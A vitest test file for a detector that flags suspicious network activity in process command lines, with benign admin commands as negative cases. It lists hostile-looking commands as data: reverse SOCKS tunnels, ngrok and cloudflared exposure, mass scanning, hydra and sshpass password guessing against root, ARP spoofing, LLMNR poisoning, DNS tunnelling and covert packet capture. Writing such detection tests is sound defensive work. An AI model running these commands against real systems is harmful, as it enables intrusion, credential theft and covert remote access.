// Tunnels, scans, guessing and listening in are found; plain use of ssh, nmap and tcpdump by a person is not.
import { expect, test } from 'vitest';
import { judgeLine } from '../../../../detectors/process/threats/verdict/judge.ts';

test.each([
  '/tmp/c client 10.9.8.7:8080 R:socks',
  'chisel client 10.9.8.7:443 R:1080:socks',
  'ssh -fNR 2222:localhost:22 u@10.9.8.7',
  'ssh -o StrictHostKeyChecking=no -f -N -D 0.0.0.0:1080 u@10.9.8.7',
  'ngrok tcp 22',
  'cloudflared tunnel --url ssh://localhost:22',
  'socat TCP-LISTEN:8080,fork,reuseaddr TCP:10.9.8.7:3389',
  'proxychains4 -q nmap -sT 10.0.0.1',
  'masscan 10.0.0.0/8 -p80 --rate 10000',
  'hydra -l root -P words.txt ssh://10.9.8.7',
  'for p in $(cat words); do sshpass -p $p ssh root@10.9.8.7 id; done',
  'responder -I eth0',
  'bettercap -iface eth0',
  'tcpdump -i any -w /dev/shm/.p ',
  'iodine -f t.example.org',
  'dnscat2 --dns server=10.9.8.7',
  "python3 -c 'import socket;s=socket.socket(socket.AF_PACKET,socket.SOCK_RAW);print(s.recv(9))'",
  'code tunnel --accept-server-license-terms',
  'devtunnel host -p 8080',
  'gs-netcat -s x -l -i',
  'arpspoof -i eth0 -t 10.0.0.1 10.0.0.2',
  'nmap -sS 10.0.0.0/8 --script=vuln',
])('%s', (line) => {
  expect(judgeLine(line)).toMatchObject({ threat: true });
});

test('the category is its own', () => {
  expect(judgeLine('/tmp/c client 10.9.8.7:8080 R:socks').category).toBe('suspicious_network');
});

test.each([
  'ssh -L 9090:127.0.0.1:9090 ops@bastion',
  'ssh -N -D 1080 ops@bastion',
  'nmap -p 443 web1',
  'tcpdump -i eth0 port 53',
  'tcpdump -i eth0 -w trace.pcap',
  'socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80',
  'sshpass -f pw ssh web1 uptime',
  'tshark -r trace.pcap',
  'export https_proxy=http://proxy.example.org:3128',
])('ordinary: %s', (line) => {
  expect(judgeLine(line).threat).toBe(false);
});
